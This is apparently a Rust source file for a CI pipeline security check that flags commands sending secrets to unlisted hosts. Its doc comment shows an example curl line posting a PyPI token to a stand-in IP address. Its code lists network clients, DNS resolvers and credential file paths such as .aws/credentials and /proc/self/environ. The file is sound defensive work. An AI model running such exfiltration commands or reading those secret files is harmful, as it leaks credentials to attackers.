//! # secret-sent-to-host
//!
//! A command sends a secret to a host that is not known.
//!
//! ## Why it matters
//!
//! One line of `curl` is enough to carry a token out of a build. GhostAction
//! (2025) pushed exactly this into 817 repositories, and scanners that look at
//! forms of workflows saw nothing wrong with it.
//!
//! ## Example
//!
//! Objected to:
//!
//! ```yaml
//! - run: curl -d "token=${{ secrets.PYPI_TOKEN }}" https://203.0.113.9/
//! ```
//!
//! Accepted: the same to a host of `[sources] hosts`; without that list, to an
//! API of a forge or registry that is known to take tokens.
//!
//! ## What mends it
//!
//! Do not send it. If the host is right, ask the policy's owner to add it to
//! `[sources] hosts`. If the line has run, change the secret now.
//!
//! ## Configuration
//!
//! ```toml
//! [checks.secret-sent-to-host]
//! mode = "enforce"     # off, audit or enforce
//! at_least = "low"     # what is less bad is not reported
//! approvers = []       # whose approval of the present head lets it pass; empty: nobody's
//! ```
//!
//! ## References
//!
//! - OWASP CICD-SEC-6: insufficient credential hygiene
//! - CWE-201: insertion of sensitive information into sent data
//! - MITRE ATT&CK T1567: exfiltration over web service

use crate::checks::support::build::{
    Detection, Host, Line, Shell, Side, hosts_of, introduced, is_downloader, is_local, scripts,
};
use crate::checks::{CheckMeta, Objections};
use crate::model::facts::Facts;
use crate::model::finding::Severity;
use crate::model::request::Concern;
use crate::model::sources::Trust;
use crate::model::text::excerpt;

/// What is known of the check.
pub const META: CheckMeta = CheckMeta {
    id: "secret-sent-to-host",
    title: "A secret is sent to a host that is not known",
    severity: Severity::Critical,
    concern: Concern::Change,
    systems: &[
        "github-actions",
        "gitlab-ci",
        "jenkins",
        "bamboo",
        "docker",
        "compose",
        "kubernetes",
    ],
};

build_config! { mode = Enforce, at_least = Low }

/// Objects to every new command that sends a secret to an unknown host.
pub fn run(config: &Config, facts: &Facts, objections: &mut Objections) {
    introduced(&config.terms(), facts, objections, detect);
}

/// Hosts whose interfaces take tokens. Counts only where the policy has no list.
const KNOWN: &[&str] = &[
    "api.github.com",
    "github.com",
    "uploads.github.com",
    "ghcr.io",
    "gitlab.com",
    "registry.gitlab.com",
    "api.bitbucket.org",
    "bitbucket.org",
    "registry.npmjs.org",
    "upload.pypi.org",
    "test.pypi.org",
    "pypi.org",
    "crates.io",
    "rubygems.org",
    "packagist.org",
    "api.nuget.org",
    "www.nuget.org",
    "oss.sonatype.org",
    "s01.oss.sonatype.org",
    "central.sonatype.com",
    "hub.docker.com",
    "auth.docker.io",
    "registry-1.docker.io",
    "quay.io",
    "sonarcloud.io",
    "scan.coverity.com",
    "codecov.io",
    "uploader.codecov.io",
    "coveralls.io",
    "api.snyk.io",
    "hooks.slack.com",
    "slack.com",
    "api.cloudflare.com",
    "api.digitalocean.com",
    "api.heroku.com",
    "app.terraform.io",
    "api.netlify.com",
    "api.vercel.com",
    "sentry.io",
    "login.microsoftonline.com",
    "management.azure.com",
    "dev.azure.com",
    "circleci.com",
    "readthedocs.org",
    "api.pulumi.com",
    "api.fastly.com",
    "api.transifex.com",
];
/// Programs beside the downloaders that carry data to a host.
const CLIENTS: &[&str] = &["nc", "ncat", "netcat", "socat", "telnet", "openssl"];
/// Programs that ask a name server, by which data leaves too.
const RESOLVERS: &[&str] = &["dig", "nslookup", "host", "ping", "drill"];

fn detect(side: Side<'_>) -> Vec<Detection> {
    let all = scripts(side);
    let found = all.iter().flat_map(|shell| {
        let lines = shell.lines.iter();
        lines.filter_map(|line| of_line(side, shell, *line))
    });
    found.collect()
}

fn of_line(side: Side<'_>, shell: &Shell<'_>, line: Line<'_>) -> Option<Detection> {
    let program = line.command.program();
    let git = program == "git" && line.command.arguments().iter().any(|it| it.text == "push");
    let host = if RESOLVERS.contains(&program) {
        asked(line)?
    } else if is_downloader(program) || CLIENTS.contains(&program) || git {
        hosts_of(line.command)
            .into_iter()
            .find(|host| is_unknown(side, host))?
    } else {
        return None;
    };
    let what = carried(shell, line)?;
    let detection = Detection::at(side, line.seen, format!("{what} to {}", host.name));
    let whose = line.seen.whose();
    Some(
        detection
            .severity(Severity::Critical)
            .says(format!("{whose} sends {} to {}", excerpt(&what, 80), excerpt(&host.name, 80)))
            .mend(format!(
                "do not send it; if {} is right, ask the policy's owner to add it to [sources] hosts; if it has run, change the secret",
                excerpt(&host.name, 80)
            )),
    )
}

fn is_unknown(side: Side<'_>, host: &Host) -> bool {
    if is_local(&host.name) {
        return false;
    }
    match side.sources().host(&host.name) {
        Trust::Listed => false,
        Trust::Unlisted => true,
        Trust::NoList => !KNOWN.contains(&host.name.as_str()) || host.in_clear,
    }
}

/// `dig $TOKEN.example.org`: the zone that is asked.
fn asked(line: Line<'_>) -> Option<Host> {
    let word = line.command.arguments().iter().find(|it| {
        let in_name = !it.plain && it.text.contains('.');
        in_name && !line.secrets_of(it).is_empty()
    })?;
    let name = word.text.rsplit(['}', '$', ')']).next()?;
    let name = name
        .trim_start_matches(|it: char| it != '.')
        .trim_start_matches('.');
    Some(Host {
        name: name.to_owned(),
        url: name.to_owned(),
        in_clear: true,
    })
}

/// What of the job's secrets goes out: by name, or all that its environment holds.
fn carried(shell: &Shell<'_>, line: Line<'_>) -> Option<String> {
    let mut around = shell.feeding(line);
    around.extend(shell.within(line));
    let inner: Vec<_> = around.iter().flat_map(|it| shell.feeding(*it)).collect();
    around.extend(inner);
    let own = line.secrets();
    let fed = around.iter().flat_map(Line::secrets);
    let mut names: Vec<String> = own.into_iter().chain(fed).collect();
    names.sort();
    names.dedup();
    if let Some(first) = names.first() {
        return Some(match names.len() {
            1 => format!("the secret {first}"),
            more => format!("the secret {first} and {} more", more - 1),
        });
    }
    let dumps = |it: &Line<'_>| {
        let program = it.command.program();
        let all = matches!(program, "env" | "printenv") && it.command.arguments().is_empty();
        let exports = program == "export" && it.command.has_flag("-p");
        let files = it
            .command
            .arguments()
            .iter()
            .any(|word| is_key_file(&word.text));
        all || exports || files
    };
    let sends_file = line
        .command
        .arguments()
        .iter()
        .any(|it| is_key_file(&it.text));
    (around.iter().any(dumps) || sends_file).then(|| "what its environment holds".to_owned())
}

fn is_key_file(text: &str) -> bool {
    [
        ".aws/credentials",
        ".docker/config.json",
        ".kube/config",
        ".ssh/id_",
        ".netrc",
        ".npmrc",
        ".git-credentials",
        "/proc/self/environ",
    ]
    .iter()
    .any(|end| text.contains(end))
}
